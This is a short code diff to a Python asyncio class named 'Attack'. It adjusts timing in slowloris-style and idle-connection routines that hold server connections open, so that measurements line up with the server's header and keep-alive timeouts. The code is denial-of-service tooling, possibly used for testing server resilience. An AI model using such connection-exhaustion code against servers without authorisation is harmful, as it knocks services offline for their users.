@@ -440,15 +440,14 @@ class Attack:
         for _ in range(50):
             if self.stopping:
                 return
+            since = time.perf_counter()  # the server's header clock starts at its accept
             conn = await _open(self.host, self.port)
             if conn is None:
                 stats.connect_errors += 1
                 await self._sleep(self.s.slowloris_interval_s)
                 continue
             stats.opened += 1
-            if not await self._hold(
-                conn[0], stats, time.perf_counter(), slow_header_bytes(self.host), conn[1]
-            ):
+            if not await self._hold(conn[0], stats, since, slow_header_bytes(self.host), conn[1]):
                 return
 
     async def _idle_slot(self, stats: ConnStats, *, send_request: bool) -> None:
@@ -456,6 +455,9 @@ class Attack:
         for _ in range(50):
             if self.stopping:
                 return
+            # The server's header clock starts when it accepts, before the open
+            # completes here (a busy loop may see it much later): time from the connect.
+            since = time.perf_counter()
             conn = await _open(self.host, self.port)
             if conn is None:
                 stats.connect_errors += 1
@@ -473,7 +475,8 @@ class Attack:
                     _bump(stats.outcomes, f"health {status}")
                     _close(writer)
                     continue
-            if not await self._hold(reader, stats, time.perf_counter(), None, writer):
+                since = time.perf_counter()  # the keep-alive clock starts with the answer
+            if not await self._hold(reader, stats, since, None, writer):
                 return
 
     # -- oversized bodies
